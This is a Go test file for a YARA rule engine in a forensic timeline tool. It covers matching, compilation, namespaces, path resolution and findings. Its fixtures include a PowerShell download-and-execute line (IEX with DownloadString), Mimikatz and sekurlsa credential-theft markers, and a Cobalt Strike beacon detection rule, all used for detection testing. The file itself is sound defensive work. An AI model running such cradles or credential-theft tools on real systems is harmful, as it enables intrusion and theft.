@@ -0,0 +1,368 @@
+package yara
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"gtrace/pkg/model"
+)
+
+func scan(t *testing.T, src string, data []byte) map[string]Match {
+	t.Helper()
+	rules, err := Compile(src, "test.yar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	matches, err := rules.ScanBytes(context.Background(), data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := make(map[string]Match)
+	for _, m := range matches {
+		out[m.Rule] = m
+	}
+	return out
+}
+
+func TestTextStrings(t *testing.T) {
+	data := []byte("xx Mimikatz yy s\x00e\x00k\x00u\x00r\x00l\x00s\x00a\x00 sekurlsa2 \x90\xff")
+	got := scan(t, `
+rule nocase_ascii : credential_access T1003 {
+    meta:
+        severity = "critical"
+        score = 80
+    strings:
+        $m = "mimikatz" nocase
+        $s = "sekurlsa" ascii wide
+    condition:
+        $m and #s == 2
+}
+rule fullword { strings: $a = "sekurlsa" fullword condition: #a == 0 }
+rule wide_fullword { strings: $a = "sekurlsa" wide fullword condition: $a }
+rule escaped { strings: $a = "\x90\xff" condition: $a at filesize - 2 }
+private rule hidden { condition: true }
+rule uses_private { condition: hidden and fullword }
+`, data)
+	m, ok := got["nocase_ascii"]
+	if !ok {
+		t.Fatalf("nocase_ascii did not match: %v", got)
+	}
+	if m.Meta["severity"] != "critical" || m.Meta["score"] != "80" || !reflect.DeepEqual(m.Tags, []string{"credential_access", "T1003"}) {
+		t.Errorf("meta %v, tags %v", m.Meta, m.Tags)
+	}
+	want := []StringMatch{
+		{ID: "$m", Offset: 3, Length: 8, Data: "Mimikatz"},
+		{ID: "$s", Offset: 15, Length: 16, Data: "sekurlsa"},
+		{ID: "$s", Offset: 32, Length: 8, Data: "sekurlsa"},
+	}
+	if !reflect.DeepEqual(m.Strings, want) {
+		t.Errorf("strings = %+v", m.Strings)
+	}
+	for _, name := range []string{"fullword", "wide_fullword", "escaped", "uses_private"} {
+		if _, ok := got[name]; !ok {
+			t.Errorf("%s did not match", name)
+		}
+	}
+	if _, ok := got["hidden"]; ok {
+		t.Error("private rule reported")
+	}
+}
+
+func TestHexStrings(t *testing.T) {
+	data := []byte{0x4D, 0x5A, 0x90, 0x00, 0xE8, 0x01, 0x02, 0x03, 0x04, 0xFF, 0xC3, 0xAA, 0xBB}
+	got := scan(t, `
+rule wildcards { strings: $a = { E8 ?? ?? 0? 04 FF } condition: $a at 4 }
+rule jump { strings: $a = { 4D 5A [2-4] 01 [-] C3 } condition: !a == 11 }
+rule alt { strings: $a = { 90 00 ( E9 | E8 01 | E8 ) 01 } condition: $a }
+rule nibble { strings: $a = { ~4D 9? } condition: @a == 1 }
+rule no_match { strings: $a = { 4D 5A [0-1] 01 } condition: $a }
+rule pe { condition: uint16(0) == 0x5A4D and uint16be(0) == 0x4D5A and uint8(filesize) == 0 }
+rule pe_header { condition: uint16(0) == 0x5A4D and filesize < 1KB }
+`, data)
+	for _, name := range []string{"wildcards", "jump", "alt", "nibble", "pe_header"} {
+		if _, ok := got[name]; !ok {
+			t.Errorf("%s did not match", name)
+		}
+	}
+	// uint8(filesize) reads past the end and is undefined, so pe fails.
+	for _, name := range []string{"no_match", "pe"} {
+		if _, ok := got[name]; ok {
+			t.Errorf("%s matched", name)
+		}
+	}
+	if s := got["wildcards"].Strings; len(s) != 1 || s[0].Data != "E8 01 02 03 04 FF" {
+		t.Errorf("wildcards strings = %+v", s)
+	}
+}
+
+// cancelAfter is a context that reports cancellation once Err has been asked n times.
+type cancelAfter struct {
+	context.Context
+	n int
+}
+
+func (c *cancelAfter) Err() error {
+	if c.n--; c.n < 0 {
+		return context.Canceled
+	}
+	return nil
+}
+
+func TestHexStringLimits(t *testing.T) {
+	// Nested unbounded jumps over data that almost matches: every A, B and C is a candidate.
+	abc := bytes.Repeat([]byte("ABC"), 1500)
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	rules, err := Compile(`rule nested { strings: $a = { 41 [-] 42 [-] 43 [-] 44 } condition: $a }`, "test.yar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if m, err := rules.ScanBytes(ctx, abc); err != nil || len(m) != 0 {
+		t.Fatalf("nested jumps: %v %v", m, err)
+	}
+	if m, err := rules.ScanBytes(ctx, append(abc, 'D')); err != nil || len(m) != 1 || len(m[0].Strings) != 1000 {
+		t.Fatalf("nested jumps with a match: %d matches, %v", len(m), err)
+	}
+
+	// An unbounded jump spans at most maxHexJump bytes.
+	far := func(gap int) []byte { return append(append([]byte{0x41}, make([]byte, gap)...), 0x42) }
+	const jump = `rule jump { strings: $a = { 41 [-] 42 } condition: $a }`
+	if _, ok := scan(t, jump, far(maxHexJump))["jump"]; !ok {
+		t.Error("jump of maxHexJump bytes not matched")
+	}
+	if _, ok := scan(t, jump, far(maxHexJump+1))["jump"]; ok {
+		t.Error("jump beyond maxHexJump matched")
+	}
+
+	// The search notices a cancelled scan between rules and within a string.
+	rules, err = Compile(`rule slow { strings: $a = { ?1 [-] 42 [-] 43 [-] 44 } condition: $a }`, "test.yar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := rules.ScanBytes(&cancelAfter{Context: context.Background(), n: 1}, abc); !errors.Is(err, context.Canceled) {
+		t.Errorf("cancelled scan returned %v", err)
+	}
+}
+
+func TestConditions(t *testing.T) {
+	data := []byte("powershell -enc AAAA; Invoke-Expression; IEX(New-Object Net.WebClient).DownloadString('http://x/a.ps1')")
+	got := scan(t, `
+rule sets {
+    strings:
+        $enc1 = "-enc"
+        $enc2 = "-EncodedCommand"
+        $iex1 = "Invoke-Expression"
+        $iex2 = /IEX\s*\(/
+        $dl = /downloadstring\('https?:\/\/[^']+'\)/ nocase
+    condition:
+        any of ($enc*) and all of ($iex*) and 3 of them and @dl[1] > @iex2 and $enc1 in (0..20)
+}
+rule counts { strings: $a = "A" condition: #a == 4 and #a in (0..17) == 2 and !a[2] == 1 }
+rule arithmetic { condition: (filesize \ 2) * 2 + filesize % 2 == filesize and 1 << 4 == 0x10 and -1 < 0 and ~0 == -1 }
+rule none_of { strings: $x = "xyz" $y = "zzz" condition: none of them }
+rule refs { condition: sets and any of (count*, arith*) }
+`, data)
+	for _, name := range []string{"sets", "counts", "arithmetic", "none_of", "refs"} {
+		if _, ok := got[name]; !ok {
+			t.Errorf("%s did not match", name)
+		}
+	}
+}
+
+func TestCompileErrors(t *testing.T) {
+	for src, want := range map[string]string{
+		`import "pe" rule a { condition: pe.is_dll() }`:               "modules are not supported",
+		`rule a { strings: $a = "x" xor condition: $a }`:              "xor is not supported",
+		`rule a { strings: $a = "x" condition: $b }`:                  "undefined string identifier $b",
+		`rule a { condition: b }`:                                     "undefined identifier b",
+		`rule a { strings: $a = { 4D [2] } condition: $a }`:           "cannot start or end with a jump",
+		`rule a { condition: true } rule a { condition: true }`:       "duplicate rule a",
+		`rule a { strings: $a = "x" condition: for any i in (1..2) }`: "for is not supported",
+	} {
+		_, err := Compile(src, "bad.yar")
+		if err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("%s: error %v, want %q", src, err, want)
+		}
+	}
+}
+
+func TestLoadInclude(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "common.yara"), []byte(`private rule is_mz { condition: uint16(0) == 0x5A4D }`), 0o644)
+	os.WriteFile(filepath.Join(dir, "main.yar"), []byte(`include "common.yara"
+rule mz_with_url { strings: $u = "http://" condition: is_mz and $u }`), 0o644)
+	os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("not a rule"), 0o644)
+	rules, err := Load(filepath.Join(dir, "main.yar"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	matches, _ := rules.ScanBytes(context.Background(), []byte("MZ..http://x"))
+	if len(matches) != 1 || matches[0].Rule != "mz_with_url" {
+		t.Errorf("matches = %+v", matches)
+	}
+	// A directory contributes every .yar and .yara file. Each is its own namespace, so
+	// common.yara loads both on its own and as part of main.yar.
+	rules, err = Load(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	matches, _ = rules.ScanBytes(context.Background(), []byte("MZ..http://x"))
+	if len(matches) != 1 || matches[0].Rule != "mz_with_url" {
+		t.Errorf("Load(dir) matches = %+v", matches)
+	}
+	if _, err := Load(filepath.Join(dir, "main.yar"), filepath.Join(dir, "main.yar")); err == nil || !strings.Contains(err.Error(), "duplicate rule is_mz") {
+		t.Errorf("Load(main.yar twice) error = %v", err)
+	}
+}
+
+func TestNamespaces(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "a.yar"), []byte(`global rule is_mz { condition: uint16(0) == 0x5A4D }
+rule hit { strings: $s = "evil" condition: $s }`), 0o644)
+	os.WriteFile(filepath.Join(dir, "b.yar"), []byte(`private rule base { strings: $s = "evil" condition: $s }
+rule hit { condition: base }`), 0o644)
+	rules, err := Load(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// a.yar's global rule fails on non-PE data; b.yar's rules are unaffected.
+	matches, _ := rules.ScanBytes(context.Background(), []byte("just evil text"))
+	if len(matches) != 1 || matches[0].Rule != "hit" || filepath.Base(matches[0].Namespace) != "b.yar" {
+		t.Errorf("matches = %+v", matches)
+	}
+	matches, _ = rules.ScanBytes(context.Background(), []byte("MZ evil"))
+	if len(matches) != 3 {
+		t.Errorf("PE matches = %+v", matches)
+	}
+}
+
+func TestResolve(t *testing.T) {
+	root := filepath.Join(t.TempDir(), "host1", "C")
+	exe := filepath.Join(root, "Windows", "System32", "evil.exe")
+	os.MkdirAll(filepath.Dir(exe), 0o755)
+	os.MkdirAll(filepath.Join(root, "Windows", "Prefetch"), 0o755)
+	os.WriteFile(exe, []byte("MZ"), 0o644)
+	pf := filepath.Join(root, "Windows", "Prefetch", "EVIL.EXE-12345678.pf")
+
+	for _, ref := range []string{
+		`\VOLUME{01d2a1b2c3d4e5f6-1234abcd}\WINDOWS\SYSTEM32\EVIL.EXE`,
+		`\Device\HarddiskVolume3\Windows\System32\evil.exe`,
+		`C:\Windows\system32\Evil.exe`,
+		`\??\C:\WINDOWS\system32\evil.exe`,
+		`%SystemRoot%\System32\evil.exe`,
+		`SYSVOL\Windows\System32\evil.exe`,
+	} {
+		if got := Resolve(ref, pf, false); got != exe {
+			t.Errorf("Resolve(%s) = %q", ref, got)
+		}
+	}
+	for _, ref := range []string{`C:\Windows\System32\missing.exe`, `evil.exe`, `C:\Windows\..\..\etc\passwd`, `C:\Windows\System32`} {
+		if got := Resolve(ref, pf, false); got != "" {
+			t.Errorf("Resolve(%s) = %q, want none", ref, got)
+		}
+	}
+}
+
+func TestScanFindings(t *testing.T) {
+	root := filepath.Join(t.TempDir(), "C")
+	exe := filepath.Join(root, "Users", "bob", "AppData", "Local", "Temp", "svc.exe")
+	os.MkdirAll(filepath.Dir(exe), 0o755)
+	os.WriteFile(exe, []byte("MZ\x90\x00 payload: beacon.dll ReflectiveLoader"), 0o644)
+	hive := filepath.Join(root, "Windows", "AppCompat", "Programs", "Amcache.hve")
+
+	timeline := []model.TimelineEvent{
+		{ID: "pf-1", Artifact: "Prefetch", Details: map[string]string{"executable_path": `\VOLUME{x}\USERS\BOB\APPDATA\LOCAL\TEMP\SVC.EXE`}, EvidenceRef: model.EvidenceRef{SourcePath: filepath.Join(root, "Windows", "Prefetch", "SVC.EXE-1.pf")}},
+		{ID: "am-1", Artifact: "Amcache", Details: map[string]string{"path": `c:\users\bob\appdata\local\temp\svc.exe`}, EvidenceRef: model.EvidenceRef{SourcePath: hive}},
+		{ID: "am-2", Artifact: "Amcache", Details: map[string]string{"path": `c:\windows\notepad.exe`}, EvidenceRef: model.EvidenceRef{SourcePath: hive}},
+		{ID: "ev-1", Artifact: "EventLog", Details: map[string]string{"path": `c:\users\bob\appdata\local\temp\svc.exe`}},
+	}
+	// Only artifacts read live from this machine may be resolved on the running system.
+	liveAsked := make(map[string]bool)
+	targets, events, err := ReferencedTargets(context.Background(), func(ctx context.Context, fn func(ev model.TimelineEvent) error) error {
+		for _, ev := range timeline {
+			if err := fn(ev); err != nil {
+				return err
+			}
+		}
+		return nil
+	}, func(sourcePath string) bool {
+		liveAsked[sourcePath] = true
+		return false
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(targets) != 1 || targets[0].Path != exe || !reflect.DeepEqual(targets[0].EventIDs, []string{"pf-1", "am-1"}) ||
+		!reflect.DeepEqual(targets[0].Sources, []string{"Prefetch", "Amcache"}) || len(events) != 2 {
+		t.Fatalf("targets = %+v", targets)
+	}
+	if !liveAsked[hive] || len(liveAsked) != 2 {
+		t.Errorf("live asked for %v, want the evidence of each Prefetch and Amcache event", liveAsked)
+	}
+
+	rules, err := Compile(`
+rule CobaltStrike_Beacon : T1055 {
+    meta:
+        description = "Cobalt Strike beacon loader"
+        severity = "critical"
+        attack = "T1071.001"
+    strings:
+        $a = "beacon.dll"
+        $b = "ReflectiveLoader"
+    condition:
+        uint16(0) == 0x5A4D and all of them
+}`, "cs.yar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	hits, stats, err := Scan(context.Background(), rules, append(targets, Target{Path: filepath.Join(root, "missing.bin"), Kind: KindEvidence}), 0, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(hits) != 1 || stats != (Stats{Scanned: 1, Skipped: 1}) {
+		t.Fatalf("hits = %+v, stats = %+v", hits, stats)
+	}
+	f := hits[0].Finding()
+	if !strings.HasPrefix(f.ID, "yara-CobaltStrike_Beacon-") || f.RuleID != "yara:CobaltStrike_Beacon" || f.Severity != "critical" || f.Title != "YARA rule CobaltStrike_Beacon matched SVC.EXE" {
+		t.Errorf("finding = %+v", f)
+	}
+	if !reflect.DeepEqual(f.EventIDs, []string{"pf-1", "am-1"}) || len(f.EvidenceRefs) != 2 || f.EvidenceRefs[1].Offset != 25 || f.EvidenceRefs[1].Size != 16 || f.EvidenceRefs[0].SHA256 == "" {
+		t.Errorf("links = %+v, %+v", f.EventIDs, f.EvidenceRefs)
+	}
+	if !strings.Contains(f.Description, "$b at 0x19: ReflectiveLoader") || len(f.IOCs) != 1 {
+		t.Errorf("description = %q", f.Description)
+	}
+	if len(f.Attack) != 2 || f.Attack[0].TechniqueID != "T1071.001" || f.Attack[1].TechniqueID != "T1055" {
+		t.Errorf("attack = %+v", f.Attack)
+	}
+}
+
+func TestParseExecOutput(t *testing.T) {
+	out := []byte(`Suspicious_PS [execution,T1059.001] [author="a \"b\"",score=70,severity="high"] /tmp/x.ps1
+0x10:$enc: -EncodedCommand
+0x2a:$bin: \x90\xFFab
+Empty [] [] /tmp/x.ps1
+`)
+	matches, err := parseExecOutput(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(matches) != 2 || matches[1].Rule != "Empty" || len(matches[1].Tags) != 0 {
+		t.Fatalf("matches = %+v", matches)
+	}
+	m := matches[0]
+	if !reflect.DeepEqual(m.Tags, []string{"execution", "T1059.001"}) || !reflect.DeepEqual(m.Meta, map[string]string{"author": `a "b"`, "score": "70", "severity": "high"}) {
+		t.Errorf("rule = %+v", m)
+	}
+	want := []StringMatch{{ID: "$enc", Offset: 0x10, Length: 15, Data: "-EncodedCommand"}, {ID: "$bin", Offset: 0x2a, Length: 4, Data: "90 FF 61 62"}}
+	if !reflect.DeepEqual(m.Strings, want) {
+		t.Errorf("strings = %+v", m.Strings)
+	}
+}